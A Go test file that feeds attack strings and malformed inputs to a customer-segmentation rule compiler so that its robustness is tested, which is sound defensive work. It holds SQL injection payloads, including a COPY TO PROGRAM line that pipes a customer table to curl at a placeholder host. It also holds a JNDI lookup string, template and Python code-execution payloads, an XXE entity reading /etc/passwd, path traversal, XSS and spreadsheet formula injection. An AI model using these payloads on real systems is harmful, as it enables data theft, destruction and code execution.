package rules_test

import (
	"fmt"
	"strings"
)

// injected returns what attackers type into every field.
func injected() map[string]string {
	return map[string]string{
		"SQL that drops":               `'; DROP TABLE customers; --`,
		"SQL that is always true":      `" OR 1=1`,
		"SQL that is always true, too": `country == "DE" OR 1=1 --`,
		"SQL that joins":               `orders > 1 UNION SELECT address FROM customers`,
		"SQL that sleeps":              `orders > (SELECT pg_sleep(10))`,
		"SQL that copies":              `'; COPY customers TO PROGRAM 'curl example.org'; --`,
		"SQL with a cast":              `orders::text == "1"`,
		"SQL with a placeholder":       `orders > $1`,
		"SQL with dollar quotes":       `$$ orders $$`,
		"SQL with doubled quotes":      `country == '''' || pg_sleep(9)`,
		"SQL of a column":              `s.orders > 1`,
		"SQL of a hidden column":       `clv_90d_ago > 1`,
		"SQL is null":                  `country IS NULL`,
		"SQL between":                  `orders BETWEEN 1 AND 5`,
		"SQL exists":                   `EXISTS (SELECT 1)`,
		"a template of Go":             `{{printf "%s" .}}`,
		"a template of Jinja":          `{{ 7*7 }}`,
		"a template of Java":           `${jndi:ldap://example.org/x}`,
		"a template of Ruby":           `<%= system('id') %>`,
		"a template in a name":         `orders{{.}} > 1`,
		"a script":                     `<script>alert(1)</script>`,
		"a script as a handler":        `"><img src=x onerror=alert(1)>`,
		"JavaScript":                   `this.constructor.constructor("return process")()`,
		"a prototype":                  `__proto__.orders > 1`,
		"Python":                       `__import__("os").system("id")`,
		"a lambda":                     `lambda: 1`,
		"Go":                           `func() bool { return true }()`,
		"an entity":                    `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>`,
		"a path":                       `../../../../etc/passwd`,
		"a JSON document":              `{"orders": {"$gt": 1}}`,
		"a JSON list":                  `["orders", ">", 1]`,
		"YAML":                         "audience: orders >= 2",
		"a formula of a spreadsheet":   `=HYPERLINK("http://example.org")`,
		"a cell of a spreadsheet":      `@SUM(1+1)*cmd|' /C calc'!A0`,
		"environment by brackets":      `$env["consent"]`,
		"environment of environment":   `$env.$env.orders > 1`,
		"environment with a default":   `$env?.orders ?? 1 > 0`,
		"an optional chain":            `country?.length > 1`,
		"an optional index":            `tags?.[0] == "a"`,
		"a default":                    `revenue ?? 0 > 1`,
		"a spread":                     `max(...tags) > 1`,
		"a call of a text":             `"len"(country) > 1`,
		"a call of a call":             `today()() == 1`,
		"a call of a number":           `1(2) > 1`,
		"a method of a number":         `orders.String() == "1"`,
		"a method of a date":           `last_order_at.Format("x") == "x"`,
		"a pipe alone":                 `|`,
		"a pipe at the end":            `consent |`,
		"a pipe of a known function":   `country | lower() == "de"`,
		"let in the middle":            `consent && let x = 1; x > 0`,
		"let of let":                   `let x = let y = 1; y; x > 0`,
		"semicolons":                   `;;;;`,
		"a semicolon at the end":       `consent;`,
		"an assignment":                `orders := 1`,
		"an increment":                 `orders++ > 1`,
		"a segment that is SQL":        `in_segment("'; DROP TABLE customers; --")`,
		"a hidden function":            `open_entries() > 1`,
		"a hidden constant":            `unknown() > 1`,
		"a hidden field":               `repeat_days > 1`,
	}
}

// absurd returns numbers and arguments beyond all measure.
func absurd() map[string]string {
	rep := strings.Repeat
	return map[string]string{
		"1e400":                         "revenue > 1e400",
		"minus 1e400":                   "revenue > -1e400",
		"an exponent of 11 digits":      "revenue > 1e99999999999",
		"an integer of 64 bits and one": "orders > 9223372036854775808",
		"a hexadecimal number":          "orders > 0x7FFFFFFFFFFFFFFF",
		"a hexadecimal float":           "orders > 0x1p-2",
		"a binary number":               "orders > 0b1111",
		"an octal number":               "orders > 0o777",
		"half a hexadecimal number":     "orders > 0x",
		"a number with two points":      "orders > 1.2.3",
		"a number with two signs":       "orders > 1e--5",
		"a number of 3,000 digits":      "orders > " + rep("9", 3000),
		"not a number":                  "orders > NaN",
		"infinity":                      "orders < Infinity",
		"days before today":             `bought_within("Tee", -1)`,
		"days beyond a century":         `bought_within("Tee", 1000000000)`,
		"half a day":                    `spent_within(0.5) > 1`,
		"days in exponents":             `orders_within(1e9) > 1`,
		"days that are no number":       `orders_within(NaN) > 1`,
		"days of a field":               `orders_within(orders) > 1`,
		"days of a sum":                 `orders_within(1 + 1) > 1`,
		"days as a text":                `received("a", "7")`,
		"days of 64 bits":               `was_in_segment("new", 9223372036854775807)`,
		"a date beyond the calendar":    `last_order_at > date("2026-02-30")`,
		"a date of year 10000":          `last_order_at > date("10000-01-01")`,
		"a date of 4 kB":                `last_order_at > date("` + rep("2026-", 700) + `")`,
		"a date with a time":            `last_order_at > date("2026-01-01 00:00:00")`,
		"a category of nothing":         `bought("  ")`,
		"a category of a field":         `bought(last_category)`,
		"too many arguments":            `spent_within(` + rep("1,", 250) + `1) > 1`,
		"no argument":                   `due_in() < 7`,
		"a list as an argument":         `bought(["Tee", "Kaffee"])`,
		"crossing what is not counted":  `crossed("clv", 1, 7)`,
		"crossing an unwritten amount":  `crossed("revenue", revenue, 7)`,
		"crossing infinity":             `crossed("revenue", 1e999, 7)`,
		"a former segment that is none": `was_in_segment("best", 30)`,
		"a segment of 4 kB":             `in_segment("` + rep("s", 3900) + `")`,
		"an anniversary of a number":    `days_until_anniversary(3) < 7`,
	}
}

// numbered writes a form once for each number.
func numbered(n int, form string) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, form, i)
	}
	return b.String()
}

// dense returns texts of at most 4 kB that make as much work as their bytes allow.
func dense() map[string]string {
	rep := strings.Repeat
	return map[string]string{
		"a name of 4 kB":               rep("o", 4000) + " > 1",
		"names near a field":           numbered(200, "order_valu%d > 1||") + "consent",
		"names near nothing":           numbered(150, "qxzqxzqxzqxzqxzqxz%d||") + "consent",
		"the longest names":            numbered(80, "days_since_last_campaign_order_value_perw%d||") + "consent",
		"unquoted words":               numbered(110, `segment == at_risc%d||`) + "consent",
		"unquoted words in a list":     "segment in [" + numbered(300, "champion%d,") + "loyal]",
		"texts near a value":           numbered(110, `segment == "loyl%d"||`) + "consent",
		"texts near a value in a list": "segment in [" + numbered(280, `"champio%d",`) + `"loyal"]`,
		"calls near a function":        numbered(180, "bought_with%d(1)||") + "consent",
		"segments near a name":         numbered(110, `in_segment("champio%d")||`) + "consent",
		"patterns":                     numbered(90, `channel matches "(a|b%d{9}){9}"||`) + "revenue",
		"patterns that are wrong":      numbered(110, `channel matches "(%d"||`) + "consent",
		"patterns at the bound":        numbered(80, `channel matches "\\pL{99}(%d{9}){30}"||`) + "revenue",
		"numbers with units":           numbered(200, "orders > %d Tage ||") + "consent",
		"dates without quotes":         numbered(150, "%d-01-01 ||") + "consent",
		"decimal commas":               numbered(500, "%d,5 ") + "consent",
		"typographic quotes":           numbered(130, "country == „%d“ || ") + "consent",
		"unclosed quotes":              numbered(800, "'%d\n"),
		"unclosed comments":            rep("/*", 2000),
		"lonely equals signs":          rep("=", 4000),
		"lonely dots":                  rep(".", 4000),
		"lonely choices":               rep("? :", 1300),
		"lonely question marks":        rep("?", 4000),
		"lonely commas":                rep(",", 4000),
		"lonely quotes":                rep(`"`, 4001),
		"lonely back quotes":           rep("`", 4001),
		"crossed brackets of 4 kB":     rep("([)]", 1000),
		"closing brackets of 4 kB":     rep(")", 4000),
		"stray characters":             rep("§", 2000),
		"emojis of 4 kB":               rep("🙂", 1000),
		"a long sum in brackets":       rep("(1+", 31) + "1" + rep(")", 31) + "+" + rep("1+", 280) + "1 > 0",
		"not of not within 4 kB":       rep("not not ", 16) + "not consent",
		"choices of choices":           rep("consent ? consent ? ", 17) + "true" + rep(": true : false", 17),
		"chains of comparisons":        rep("1 < orders < 3 && ", 80) + "consent",
		"an or of everything":          rep("orders>1||", 90) + "orders",
		"many texts":                   `country in [` + rep(`"DE",`, 750) + `5]`,
		"many lists":                   rep("orders in [1,2,3,4,5,6,7,8,9]&&", 99) + "revenue",
		"many measures":                rep(`times_bought("a>b>c>d>e>f",9)>0||`, 55) + "revenue",
		"many formulas":                rep("subscriber&&", 140) + "revenue",
	}
}

// lawful returns rules at the bounds or with traps in their texts: they compile, and must cost little all the same.
func lawful() map[string]string {
	rep := strings.Repeat
	joined := func(n int, condition string) string { return rep(condition+"||", n-1) + condition }
	return map[string]string{
		"blanks":                     "consent" + rep(" ", 4000),
		"Windows lines":              rep("\r\n", 1000) + "orders >= 1\r\n&& consent\r\n",
		"a comment of 4 kB":          "/*" + rep("*", 4000) + "*/ consent",
		"comments with traps":        "consent // \") ]] /* \n && /* // ' */ orders > 1",
		"SQL in a text":              `country != "'; DROP TABLE customers; --" && city != "\" OR 1=1"`,
		"a template in a text":       `city != "{{.Orders}} ${x} <%= 1 %> %s%d%n"`,
		"an override in a text":      "city != \"\u202e\u200b🙂\"",
		"a replaced surrogate":       `city != "\ud800"`,
		"a text of 4 kB":             `city != "` + rep("ß", 2000) + `"`,
		"a text of escapes":          `city != "` + rep(`\u00df`, 600) + `"`,
		"150 conditions":             joined(150, "consent"),
		"75 comparisons":             joined(75, "orders>1"),
		"70 measures":                joined(70, `bought_within("a>b>c",99)`),
		"counting orders 50 times":   joined(50, `times_bought("Kaffee",9999)>99`),
		"60 expected days":           joined(60, `due_in("Kaffee > Bohnen")>1`),
		"90 segments":                joined(90, `in_segment("champions")`),
		"70 former segments":         joined(70, `was_in_segment("new",9)`),
		"150 subscribers":            joined(150, "subscriber"),
		"60 long formulas":           joined(60, "days_since_subscription_end>1"),
		"a pattern at its bounds":    `channel matches "(a|b|c){99}(x{9}){9}" || consent`,
		"60 patterns":                joined(60, `channel matches "(a|b|c){99}(x{9}){9}"`),
		"1,000 list items":           "orders in [" + rep("7,", 999) + "7]",
		"overflow":                   rep("1e308*", 90) + "1e308 > 1",
		"division by nothing":        rep("1/(orders-orders)+", 45) + "1 > 0",
		"remainders":                 rep("orders%", 98) + "3 >= 0",
		"the longest window":         `orders_within(36525) >= 0 && points_expiring_within(36525) >= 0`,
		"16 brackets of choices":     rep("(consent ? ", 16) + "true" + rep(" : false)", 16),
		"choices in conditions":      rep("(", 30) + "consent" + rep(" ? orders > 1 : clv > 1)", 30),
		"choices in their negations": rep("!(", 15) + "consent" + rep(" ? orders > 1 : clv > 1)", 15),
		"chained comparisons":        "1 < 2 < 3 < 4 < 5 <= 5 && orders > -1",
		"a name of a field in texts": `"orders" == 'orders' && ` + "`orders` == \"orders\"",
	}
}
